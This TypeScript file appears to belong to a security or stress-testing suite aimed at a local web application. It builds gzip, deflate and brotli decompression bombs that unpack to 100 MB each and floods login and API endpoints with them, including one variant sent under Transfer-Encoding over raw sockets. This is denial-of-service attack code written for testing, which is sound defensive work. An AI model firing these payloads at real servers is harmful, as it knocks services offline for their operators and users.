import { brotliCompressSync, deflateSync, gzipSync, constants as zlib } from 'node:zlib'
import type { Attack } from '../attack.ts'
import { FORM, JSON_TYPE, rawRequest } from '../payloads.ts'

/** Each becomes 100 MB when it is unpacked. */
const PACKED: Record<string, (plain: Buffer) => Buffer> = {
  gzip: plain => gzipSync(plain, { level: 1 }),
  deflate: plain => deflateSync(plain, { level: 1 }),
  br: plain => brotliCompressSync(plain, { params: { [zlib.BROTLI_PARAM_QUALITY]: 1 } }),
}

const bombs = new Map<string, Buffer>()

function bomb(encoding: string): Buffer {
  const made = bombs.get(encoding) ?? PACKED[encoding]?.(Buffer.alloc(100_000_000, '[')) ?? Buffer.alloc(0)
  bombs.set(encoding, made)
  return made
}

/** Small bodies that say to become large. */
export const compressed: Attack[] = [
  ...Object.keys(PACKED).map(
    (encoding): Attack => ({
      name: `${encoding} bomb as a request body`,
      kind: 'compressed',
      product: 'all',
      signedIn: true,
      prepare: () => void bomb(encoding),
      run({ flood, world }) {
        const body = bomb(encoding)
        const headers = { ...JSON_TYPE, 'content-encoding': encoding, origin: `http://localhost:${world.port}` }
        return flood(
          30,
          6,
          n =>
            [
              { path: '/api/v2/deals', as: 'crm' as const, headers, body },
              { path: '/api/auth/login', headers, body },
              { path: '/market/login', headers: { ...headers, ...FORM }, body },
              { path: '/gate/door/claim', headers, body },
            ][n % 4] ?? { path: '/' },
        )
      },
    }),
  ),
  {
    name: 'bomb under Transfer-Encoding: gzip',
    kind: 'compressed',
    product: 'all',
    signedIn: false,
    prepare: () => void bomb('gzip'),
    async run(target) {
      const body = bomb('gzip')
      for (let n = 0; n < 20; n++) {
        const headers = { ...JSON_TYPE, 'transfer-encoding': 'gzip, chunked' }
        const socket = await target.raw(rawRequest('POST', '/api/auth/login', headers))
        socket.write(`${body.length.toString(16)}\r\n`)
        socket.write(body)
        socket.write('\r\n0\r\n\r\n')
      }
      await target.pause(2_000)
    },
  },
]
